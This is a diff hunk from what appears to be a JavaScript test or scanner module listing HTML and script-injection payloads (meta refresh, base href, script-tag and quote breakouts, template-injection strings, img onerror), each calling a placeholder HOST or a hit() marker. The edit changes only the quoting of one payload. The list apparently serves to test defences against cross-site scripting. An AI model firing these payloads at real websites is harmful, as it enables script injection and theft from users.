@@ -24,7 +24,7 @@ export const ATTACKS = [
   "<meta http-equiv=refresh content='0;url=http://HOST/21'>",
   "<base href='http://HOST/22/'>",
   "<link rel=preconnect href='http://HOST'><link rel=dns-prefetch href='http://HOST'>",
-  "\"><script>hit(24)</script>",
+  '"><script>hit(24)</script>',
   "'-hit(25)-'",
   "${hit(26)} {{hit(26)}} {{constructor.constructor('hit(26)')()}}",
   "`<img src=x onerror=hit(27)>`",
